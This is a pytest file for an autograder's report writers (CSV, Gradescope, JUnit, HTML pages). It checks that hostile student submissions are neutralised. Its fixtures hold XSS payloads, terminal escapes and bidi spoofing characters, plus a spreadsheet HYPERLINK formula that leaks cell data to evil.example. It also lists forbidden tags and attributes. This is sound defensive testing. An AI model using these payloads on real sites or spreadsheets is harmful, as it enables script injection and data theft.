"""Test what the reports of the grader show, and that no hostile submission can do harm in them."""

import csv
import io
import json
import re
import time
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser

import pytest

from grading import formats
from grading.formats import LIMIT, NoMark, classroom50, clean, clean_name, csv_rows, gradescope, junit
from grading.pages import ROWS, ClassSummary, class_page, student_page
from grading.record import CheckResult, ExerciseResult, Outcome, StudentResult
from helpers import ROOT, chromium

SCRIPT = "<script>alert(1)</script>"
EVIL = (
    f"{SCRIPT}</pre></title></style><img src=x onerror=alert(2)>\"' onmouseover='alert(3)' {{{{ 7*7 }}}} "
    "<svg/onload=alert(4)> ]]> &lt; \x1b[31mred\x1b[0m \x1b]0;title\x07 \x00\x07\x9b \u202egnp.exe\u202c "
    "\ud800 \udcfc \ufffe \r\n https://evil.example/x.png "
)
NAMES = [
    SCRIPT,
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "Ünïcode 学生 🎓",
    "مريم الأندلسي",
    "a\u202enna",
    "\x1b[31manna\x1b[0m",
    "anna\x00\n\r\t",
    "M\udcfcller",
    "x" * 255,
]
HOSTILE = set("\x00\x07\x1b\x7f\x9b\r\u200b\u202e\u2066\ud800\udcfc\ufeff\ufffe")
ENVIRONMENT = {
    "CLASSROOM": "flask-101",
    "ASSIGNMENT": "jwt",
    "SUBMISSION_TAG": "submit/2026-06-01T14-32-05Z-a1b2c3d",
    "COMMIT_URL": "https://github.com/o/r/commit/1",
    "RELEASE_URL": "https://github.com/o/r/releases/tag/1",
}


def make(*outcomes, student="anna", exercise="01_auth_url", **fields):
    """Make a result with a check of 2 points for each outcome, and with evil text from the answer."""
    evil = dict.fromkeys(("sent", "expected", "got", "question", "message"), EVIL)
    checks = [
        CheckResult(
            f"test_{place}", f"Check {place} holds.", 2, outcome, **evil if outcome != "passed" else {}
        )
        for place, outcome in enumerate(map(Outcome, outcomes), start=1)
    ]
    fields = {"seed": 123, "file": EVIL, "printed": EVIL * 500} | fields
    return StudentResult(student, student, [ExerciseResult(exercise, 2 * len(checks), checks, **fields)])


def one_of_each(student="anna"):
    """Make a result with an exercise of every outcome, and with evil text everywhere."""
    result = make(*Outcome, student=student, problem=EVIL)
    result.exercises[0].checks.pop()  # the grader error, because it would leave no points
    for number, outcome in enumerate(Outcome, start=2):
        if outcome is not Outcome.GRADER_ERROR:
            result.exercises += make(outcome, outcome, exercise=f"{number:02}_more", problem=EVIL).exercises
    return result


def table(*results):
    """Return the CSV of results as text and as rows."""
    file = io.StringIO(newline="")
    formats.write_csv(results, file)
    return file.getvalue(), list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))


def the_class(*results):
    summary = ClassSummary(lambda student: "students/x/index.html")
    for result in results:
        summary.add(result)
    return summary


class Page(HTMLParser):
    """The tags, the attributes and the text of a page."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.text = Counter(), [], ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.attributes += attrs

    def handle_data(self, data):
        self.text += f"{data} "


# cleaning


def test_a_cleaned_text_has_no_character_that_a_terminal_obeys_or_xml_or_utf_8_forbids():
    cleaned = clean(EVIL + "".join(map(chr, range(0x11000))))
    assert not set(cleaned) & HOSTILE
    assert "red" in cleaned
    assert "[31m" not in cleaned
    assert "]0;title" not in cleaned
    ET.fromstring(f"<a>{cleaned.replace('&', '').replace('<', '')}</a>".replace("]]>", "").encode())


def test_a_long_text_is_cut_and_marked_as_cut():
    assert clean("x" * LIMIT) == "x" * LIMIT
    assert len(clean("x" * 100_000)) == LIMIT
    assert clean("x" * 100_000).endswith("… (cut)")


PERSIAN, HINDI, EMOJI = "\u0645\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937", "\U0001f469\u200d\U0001f4bb"


@pytest.mark.parametrize("name", ["Ünïcode 学生 🎓", "مريم الأندلسي", PERSIAN, HINDI, EMOJI, "O'Neil-Smith"])
def test_a_name_in_any_script_stays_as_it_is(name):
    assert clean_name(name) == name


@pytest.mark.parametrize("invisible", ["\u202e", "\x1b[31m", "\x00", "\n", "\r", "\t", "\u200b", "\ud800"])
def test_a_name_with_an_invisible_character_differs_from_the_name_without_it(invisible):
    for name in (f"{invisible}anna", f"an{invisible}na", f"anna{invisible}"):
        assert "\ufffd" in clean_name(name)
        assert clean_name(name).isprintable()


def test_a_hundred_kilobytes_of_escapes_are_cleaned_within_a_second():
    start = time.perf_counter()
    for text in ("\x1b[" * 50_000, "\x1b]" * 50_000, "\x1b[" + "0" * 100_000, "\x1b]" + " " * 100_000):
        clean(text)
    assert time.perf_counter() - start < 1


# the table


def test_the_table_has_a_row_for_each_exercise_in_the_columns_of_nbgrader():
    text, rows = table(make("passed", "failed"))
    assert text.splitlines()[0] == (
        "assignment,duedate,timestamp,student_id,last_name,first_name,email,"
        "raw_score,late_submission_penalty,score,max_score,outcome"
    )
    known = {"assignment": "01_auth_url", "student_id": "anna", "outcome": "failed"}
    known |= {"raw_score": "2", "score": "2", "max_score": "4"}
    assert rows == [dict.fromkeys(formats.CSV_COLUMNS, "") | known]


def test_the_table_has_an_empty_mark_for_a_grader_error_and_a_zero_for_nothing_handed_in():
    assert csv_rows(make("passed", "grader error"))[0]["score"] == ""
    assert csv_rows(make("passed", "grader error"))[0]["raw_score"] == ""
    assert csv_rows(make("not handed in"))[0]["score"] == "0"


@pytest.mark.parametrize("sign", "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\t\r\n")
@pytest.mark.parametrize("before", ["", " ", "\u00a0 ", "anna;", "anna, "])
def test_no_cell_of_the_table_is_a_formula(sign, before):
    _, rows = table(make("passed", student=f"{before}{sign}1+1"))
    for part in rows[0]["student_id"].replace(";", ",").split(","):
        assert part.strip()[0] in "'a\ufffd"
    assert "1+1" in rows[0]["student_id"]


def test_the_table_has_one_line_for_each_row_in_utf_8_with_hostile_names():
    text, rows = table(*(make("passed", student=name) for name in NAMES))
    assert len(text.encode("utf-8").split(b"\n")) == len(NAMES) + 2
    assert b"\r" not in text.encode("utf-8")
    assert [row["outcome"] for row in rows] == ["passed"] * len(NAMES)
    assert len({row["student_id"] for row in rows}) == len(NAMES)


# Gradescope and Classroom 50


def test_gradescope_gets_the_points_and_a_test_for_each_check():
    results = json.loads(json.dumps(gradescope(make("passed", "failed", "skipped", exercise="07_more"))))
    assert results["score"] == 2
    assert results["stdout_visibility"] == "hidden"
    assert [(test["number"], test["status"]) for test in results["tests"]] == [
        ("7.1", "passed"),
        ("7.2", "failed"),
        ("7.3", "failed"),
    ]
    assert sum(test["score"] for test in results["tests"]) == results["score"]
    assert {results["output_format"], *(test["output_format"] for test in results["tests"])} == {"text"}


def test_classroom_50_gets_whole_numbers_and_test_names_without_hostile_text():
    result = classroom50(one_of_each(EVIL), ENVIRONMENT)
    assert result["schema"] == "classroom50/result/v1"
    assert result["submission"] == ENVIRONMENT["SUBMISSION_TAG"]
    assert result["review"] == ENVIRONMENT["COMMIT_URL"]
    for part in (result, *result["tests"]):
        assert {type(part["score"]), type(part["max-score"])} == {int}
        assert 0 <= part["score"] <= part["max-score"]
    assert sum(test["score"] for test in result["tests"]) == result["score"]
    for test in result["tests"]:
        assert re.fullmatch(r"\d+\.\d Check \d holds\.", test["test-name"])


def test_classroom_50s_result_needs_its_environment():
    with pytest.raises(KeyError, match="CLASSROOM"):
        classroom50(make("passed"), {})


def test_without_a_mark_neither_gets_a_result_because_it_would_count_as_a_zero():
    for write in (gradescope, lambda result: classroom50(result, ENVIRONMENT)):
        with pytest.raises(NoMark, match="and not the answer"):
            write(make("passed", "grader error"))


def test_the_json_of_a_hostile_result_is_clean_and_short():
    for results in (gradescope(one_of_each(EVIL)), classroom50(one_of_each(EVIL), ENVIRONMENT)):
        text = json.dumps(results, ensure_ascii=False)
        text.encode("utf-8")
        assert not set(text) & HOSTILE
        assert max(len(test["output"]) for test in results["tests"]) < 6 * LIMIT


def test_a_traceback_that_every_check_has_is_shown_once():
    result = make(*["did not start"] * 5)
    for check in result.exercises[0].checks:
        check.message = "NameError: once"
    texts = json.dumps(gradescope(result)), json.dumps(classroom50(result, ENVIRONMENT)), junit(result)
    for report in (*texts, student_page(result)):
        assert report.count("NameError: once") == 1


# JUnit


def test_junit_counts_its_cases_and_has_the_points_as_properties():
    suite = ET.fromstring(junit(make(*Outcome)).encode()).find("testsuite")
    assert suite.attrib == {
        "name": "01_auth_url",
        "tests": "9",
        "failures": "2",  # one failed, one was not handed in
        "errors": "5",
        "skipped": "1",
    }
    kinds = [next((child.tag for child in case if child.tag != "properties"), "passed") for case in suite[:9]]
    assert kinds == [
        *("passed", "failure", "skipped", "error", "error", "error"),
        *("failure", "error", "error"),
    ]
    first = {
        item.get("name"): item.get("value") for item in suite.iterfind("testcase[1]/properties/property")
    }
    assert first == {"sentence": "Check 1 holds.", "points": "2", "max_points": "2"}


@pytest.mark.parametrize("name", [EVIL, *NAMES], ids=range(10))
def test_junit_with_hostile_text_can_be_parsed(name):
    root = ET.fromstring(junit(one_of_each(name)).encode("utf-8"))
    assert SCRIPT in root.find("testsuite/testcase/failure").text
    assert not set("".join(root.itertext())) & HOSTILE
    assert root.get("name") == clean_name(name)


# a student's page


def test_the_style_sheet_knows_every_outcome():
    style = (ROOT / "tests/grading/templates/style.css").read_text(encoding="utf-8")
    names = {outcome.name.lower() for outcome in Outcome}
    assert {name for name in names if not re.search(rf"\.{name}\b", style)} == set()


def test_a_students_page_shows_what_was_sent_expected_and_got_and_how_to_repeat_it():
    result = make("passed", "failed", "skipped", student="anna", printed="hello")
    for place, check in enumerate(result.exercises[0].checks):
        check.sent, check.expected, check.got, check.question = "GET /x", "200", "404", "Is it there?"
        check.message = "needs: Check 2 holds." if place == 2 else ""
    text = " ".join(Page(student_page(result)).text.split())
    for words in (
        *("anna", "2 of 6 points", "Exercise 1: auth url", "✓ passed", "✗ failed", "sent GET /x", "got 404"),
        *(
            "Is it there?",
            "needs: Check 2 holds.",
            "What your answer printed or logged hello",
            "make check-1",
        ),
        ".venv/bin/python lessons check 1 --seed 123",
    ):
        assert words in text


@pytest.mark.parametrize(
    ("result", "words"),
    [
        (make("passed"), "Everything passes. Well done!"),
        (make("grader error", problem="disk full"), "Not your fault"),
        (make("grader error"), "No mark yet"),
        (make("not handed in"), "Begin it with make start-1"),
        (make("did not start", "did not start"), "Why your app did not start"),
        (make("unreadable", problem="answer.py is a link"), "answer.py is a link"),
        (StudentResult("anna", "anna.zip", problem="too many files"), "too many files"),
    ],
    ids=range(7),
)
def test_a_students_page_explains_the_outcome_in_plain_words(result, words):
    assert words in " ".join(Page(student_page(result)).text.split())


def test_a_page_warns_if_there_was_no_sandbox():
    result = make("passed")
    assert "Advice, not a mark" not in student_page(result)
    assert "ran without a sandbox" not in class_page(the_class(result))
    result.sandboxed = False
    assert "Advice, not a mark" in student_page(result)
    assert "1 of 1 ran without a sandbox" in class_page(the_class(result))


# the page of the class


def test_the_class_page_counts_points_and_the_outcomes_of_each_check():
    results = [make("passed", "passed"), *[make("passed", "failed") for _ in range(3)], make("grader error")]
    summary = the_class(*results)
    assert [bar for bar in summary.histogram() if bar[2]] == [(2, 2, 3), (4, 4, 1)]
    assert summary.exercises["01_auth_url"].checks["test_2"].outcomes == {"passed": 1, "failed": 3}
    text = " ".join(Page(class_page(summary)).text.split())
    assert "students 5 mean 2.5 of 4 with all points 1 without a mark 1" in text
    assert "The grader failed on 1 answer" in text
    assert "3 Check 2 holds. Exercise 1: auth url" in text
    assert text.count("most missed") == 1
    assert text.index("The grader failed") < text.index("Points")


def test_the_histogram_has_eleven_bars_at_most_and_counts_every_student():
    for max_points in range(1, 200):
        summary = the_class()
        summary.max_points = max_points
        summary.points = Counter(range(max_points + 1))
        bars = summary.histogram()
        assert len(bars) <= 11
        assert sum(count for *_, count in bars) == max_points + 1
        assert [low for low, *_ in bars[1:]] == [high + 1 for _, high, _ in bars[:-1]]


def test_the_histogram_counts_decimal_points():
    summary = the_class()
    summary.max_points = 2.5
    summary.points = Counter({0.3: 1, 1: 2, 1.75: 3, 2.5: 4, None: 5})
    assert summary.histogram() == [(0, 0, 1), (1, 1, 5), (2, 2, 4)]


def test_a_class_without_students_has_a_page():
    assert "The class" in class_page(the_class())


def test_a_large_class_is_counted_completely_and_listed_in_part():
    result = make("grader error", "passed")
    summary = the_class(*[result] * (ROWS + 5))
    assert summary.students == ROWS + 5
    assert len(summary.rows) == len(summary.errors) == ROWS
    assert f"The first {ROWS} of {ROWS + 5}." in class_page(summary)


# what a hostile submission cannot do


@pytest.fixture(scope="module")
def pages():
    """The pages of hostile students and of their class."""
    results = [one_of_each(name) for name in NAMES]
    results += [make("grader error", student=EVIL, problem=EVIL), StudentResult(EVIL, EVIL, problem=EVIL)]
    for number in range(11, 40):  # too many columns for a phone
        results[0].exercises += make("passed", exercise=f"{number}_more").exercises
    return [*map(student_page, results), class_page(the_class(*results))]


def test_a_page_has_only_the_tags_of_its_template(pages):
    for page in pages:
        parsed = Page(page)
        assert not {"script", "img", "svg", "iframe", "link", "form", "base", "object"} & parsed.tags.keys()
        assert not [name for name, _ in parsed.attributes if name.startswith("on")]
        assert not [value for name, value in parsed.attributes if name in ("src", "srcset", "action")]
        hrefs = {value for name, value in parsed.attributes if name == "href"}
        assert all(href.startswith(("#exercise-", "students/")) for href in hrefs)
        assert not set(page) & HOSTILE
        assert SCRIPT in parsed.text
        page.encode("utf-8")


# in a browser

LUMINANCE = """() => {
  const rgb = text => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const behind = it => {
    for (; it; it = it.parentElement) {
      const color = rgb(getComputedStyle(it).backgroundColor);
      if (color.length === 3 || color[3] === 1) return color;
    }
    return matchMedia("(prefers-color-scheme: dark)").matches ? [18, 18, 18] : [255, 255, 255];
  };
  const worst = {};
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const it = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || it.closest(".hidden")) continue;
    const [a, b] = [light(rgb(getComputedStyle(it).color)), light(behind(it))].sort((x, y) => y - x);
    const ratio = (a + .05) / (b + .05);
    if (ratio < 4.5) worst[it.outerHTML.slice(0, 80)] = ratio;
  }
  return worst;
}"""


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.mark.slow
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_page_runs_no_script_sends_no_request_fits_the_screen_and_has_contrast(
    browser, pages, scheme, tmp_path
):
    happened = []
    tab = browser.new_page(color_scheme=scheme)
    tab.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    tab.on("request", lambda request: happened.append(request.url))
    tab.on("console", lambda message: happened.append(message.text))
    tab.on("pageerror", lambda error: happened.append(str(error)))
    for place, page in enumerate(pages if scheme == "light" else pages[::11]):
        file = tmp_path / f"{place}.html"
        file.write_text(page, encoding="utf-8")
        for width in (360, 1280):
            tab.set_viewport_size({"width": width, "height": 800})
            tab.goto(file.as_uri())
            happened.remove(file.as_uri())
            assert tab.evaluate("document.documentElement.scrollWidth") <= width, place
            assert tab.evaluate("document.querySelector('h1').scrollWidth") <= width
        assert tab.evaluate(LUMINANCE) == {}
    assert happened == []
    tab.close()


@pytest.mark.slow
def test_a_page_runs_no_script_and_loads_no_picture_even_if_its_html_contains_them(browser, tmp_path):
    tab = browser.new_page()
    refused, shown = [], []
    tab.on("requestfailed", lambda request: refused.append(request.failure))
    tab.on("dialog", lambda dialog: (shown.append(dialog.message), dialog.dismiss()))
    file = tmp_path / "page.html"
    evil = f"<main>{SCRIPT}<img src='http://127.0.0.1:9/x.png'>"
    file.write_text(student_page(make("passed")).replace("<main>", evil), "utf-8")
    tab.goto(file.as_uri())
    assert refused == ["csp"]
    assert shown == []
    tab.close()
